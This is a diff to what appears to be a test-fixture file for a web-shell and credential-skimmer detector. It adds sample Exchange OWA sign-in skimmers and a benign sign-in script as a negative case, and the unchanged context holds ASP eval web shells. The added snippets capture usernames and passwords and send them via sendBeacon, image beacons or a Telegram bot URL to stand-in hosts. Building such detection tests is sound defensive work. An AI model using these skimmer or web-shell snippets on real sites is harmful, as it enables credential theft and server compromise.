@@ -18,6 +18,15 @@ EVAL = '<script language="JScript" runat="server">function Page_Load(){eval(Requ
 
 # Inert: shapes of such pages, none complete.
 SHELLS = {
+    "sign_in_of_exchange_sends_on": [
+        ('<%@ Page language="c#" Inherits="Microsoft.Exchange.HttpProxy.Logon" %><form action="/owa/auth.owa" name="logonForm">'
+        '<script>var f=document.logonForm;f.addEventListener("submit",function(){var d=btoa(f.username.value+"|"+'
+        'f.password.value);navigator.sendBeacon("https://stat.example/i",d);});</script>'),
+        ("function clkLgn(){var p=gbid('password').value;var x=new XMLHttpRequest();x.open('POST','/owa/auth/x.aspx');x.send(p);"
+        "document.logonForm.submit();}"),
+        "function clkLgn(){new Image().src='//x.example/?'+gbid('username').value+gbid('password').value;}",
+        "var f=new FormData(document.logonForm);fetch('https://api.telegram.org/bot1/send?text='+f.get('password'));",
+    ],
     "eval_of_request": [
         '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>',
         '<%eval request("x")%>',
@@ -107,6 +116,8 @@ SHELLS = {
 }  # fmt: skip
 
 HONEST = {
+    "the script of Exchange's sign-in page": "function clkLgn(){var p=gbid('password');if(p.value.length>16){p.value="
+    "p.value.substr(0,16);}document.logonForm.submit();} function gbid(s){return document.getElementById(s);}",
     "a sign-in page": '<%@ Page Language="C#" AutoEventWireup="true" Inherits="Contoso.Logon" %>\n'
     "<html><head><script>function clk(){ if (document.getElementById('password').value == '') "
     'return false; }</script></head><body><% if (Request.QueryString["reason"] == "2") { %>'
